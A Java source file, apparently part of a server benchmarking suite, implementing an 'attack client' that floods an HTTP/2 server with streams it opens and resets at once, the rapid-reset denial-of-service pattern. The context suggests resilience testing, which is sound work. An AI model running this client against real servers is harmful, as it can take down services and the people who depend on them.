package io.weir.benchmarks.siege.attack;

import java.nio.ByteBuffer;

/** Opens streams of HTTP/2 and resets each at once, as fast as the server reads. */
public final class StreamResets implements AttackClient {

    private static final int STREAMS_AT_ONCE = 64;

    private final byte[] headers;
    private final AttackTally tally;
    private ByteBuffer sending = Http2Frames.opening();
    private int stream = 1;

    public StreamResets(byte[] headers, AttackTally tally) {
        this.headers = headers;
        this.tally = tally;
    }

    @Override
    public ByteBuffer toSend() {
        if (!sending.hasRemaining()) {
            ByteBuffer next = ByteBuffer.allocate(
                    STREAMS_AT_ONCE * (2 * Http2Frames.HEADER_BYTES + headers.length + Integer.BYTES));
            for (int i = 0; i < STREAMS_AT_ONCE; i++) {
                Http2Frames.putHeaders(next, headers, stream);
                Http2Frames.putReset(next, stream);
                stream += 2;
            }
            tally.add("streams", STREAMS_AT_ONCE);
            sending = next.flip();
        }
        return sending;
    }

    @Override
    public void received(ByteBuffer bytes) {
        bytes.position(bytes.limit());
    }

    @Override
    public boolean comesBack() {
        return true;
    }
}
